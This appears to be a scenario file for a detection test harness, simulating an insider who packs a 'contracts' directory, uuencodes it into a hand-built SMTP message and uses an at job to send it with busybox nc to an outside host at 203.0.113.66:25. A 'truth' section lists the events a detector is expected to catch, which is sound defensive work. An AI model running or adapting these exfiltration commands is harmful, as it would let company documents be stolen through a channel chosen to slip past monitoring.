# Nothing but busybox and at: a prepared dialogue, fed to a server outside.
title="busybox nc speaks SMTP from an at job"
what="jule's at job pipes a prepared dialogue with a packed archive into busybox nc 203.0.113.66 25."
user=jule daemons="cron atd sshd"
people="hanna tobi ines marek jule" aliases='postmaster: root\nroot: marek\norders: ines\noffice: hanna, jule\nabuse: root\n'
setup() { documents; }
act() {
  small_talk 1
  ssh_as jule <<'L'
printf 'HELO j\r\nMAIL FROM:<j@example.org>\r\nRCPT TO:<in@drop.example.net>\r\nDATA\r\nSubject: x\r\n\r\n' > d; busybox tar cz contracts | busybox uuencode a >> d; printf '\r\n.\r\nQUIT\r\n' >> d
echo 'busybox nc 203.0.113.66 25 < d' | at now
%sleep 5
L
  small_talk 1
}
truth() {
  exec_step pack 'busybox tar cz contracts' 'documents are packed'
  exec_step encode 'busybox uuencode a' 'and encoded'
  exec_step job 'dash sh$' 'atd starts the job'
  net_step leaves 'busybox 203.0.113.66:25' 'it speaks SMTP'
}
